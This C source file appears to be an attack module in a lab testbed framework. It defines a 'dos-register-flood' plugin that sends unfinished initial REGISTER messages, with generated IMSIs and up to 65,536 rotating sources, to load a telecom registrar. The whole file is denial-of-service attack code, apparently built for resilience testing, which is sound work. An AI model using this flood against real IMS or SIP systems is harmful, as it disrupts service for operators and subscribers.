/* dos-register-flood - initial REGISTERs that nobody means to finish. */
#include "lab/attacker/flood.h"

typedef struct {
  RdFloodAim aim;
  double rate;
  int64_t sources;
} Config;

static const RdParam params[] = {RD_PARAM(Config, "rate", RD_NUMBER, rate, "500", 0.001, 1e6, "1/s",
                                          "REGISTERs a second, of all sources."),
                                 RD_PARAM(Config, "sources", RD_INTEGER, sources, "1", 1, 65536, "",
                                          "Addresses that take turns."),
                                 RD_FLOOD_ROWS(Config, "0.5"), RD_PARAM_END};

static uint64_t entities(const void *config) {
  return (uint64_t)((const Config *)config)->sources;
}

static void *open_flood(RdHost *host, const void *config, const RdActorSetup *setup) {
  const Config *c = config;
  return rd_flood_new(host, setup, &c->aim, c->rate / (double)setup->entities, RD_PACE_EVEN);
}

static void timer(void *self, RdTimer id, uint64_t source) {
  RdFlood *f = self;
  char imsi[RD_IMSI_TEXT];
  (void)id;
  const uint64_t number = rd_pace_tick(f->pace, source);
  rd_flood_victim(f, source, number, imsi);
  rd_flood_count(f, rd_probe_register(&f->probe, source, number, imsi, f->aim->realm));
}

RD_PART(RD_ATTACK, "dos-register-flood",
        "Initial REGISTERs that are never finished, each costing the registrar a look-up.",
        RD_CONFIG(Config, params),
        RD_ACTOR_OPS(.open = open_flood, .timer = timer, .entities = entities, RD_FLOOD_OPS),
        .interface = RD_IF_GM, .family = "dos");
